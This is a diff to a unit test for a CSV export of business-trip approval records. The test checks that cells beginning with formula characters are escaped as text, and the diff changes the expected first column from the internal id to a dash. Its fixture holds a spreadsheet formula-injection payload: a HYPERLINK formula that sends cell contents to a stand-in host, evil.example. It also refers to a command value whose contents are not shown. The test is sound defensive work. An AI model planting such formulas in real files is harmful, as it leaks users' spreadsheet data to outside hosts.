@@ -27,5 +27,6 @@ test('出差导出 CSV: a field typed as a formula is written as text', () => {
     rows: [{ instanceId: 'i-1', applicant: '@张三', department: '-销售部', status: 'approved', createdAt: '2026-05-01T08:00:00.000Z', fields: { trip_region: HYPERLINK, trip_email: CMD } }],
   });
   const line = csv.split('\r\n')[1]!;
-  expect(line).toBe(`i-1,'@张三,'-销售部,已通过,2026-05-01 08:00,"'=HYPERLINK(""https://evil.example/?d=""&A1,""点击查看"")",'${CMD}`);
+  // No 审批编号 rule: the column says — (issue 43 #8), never the internal id.
+  expect(line).toBe(`—,'@张三,'-销售部,已通过,2026-05-01 08:00,"'=HYPERLINK(""https://evil.example/?d=""&A1,""点击查看"")",'${CMD}`);
 });
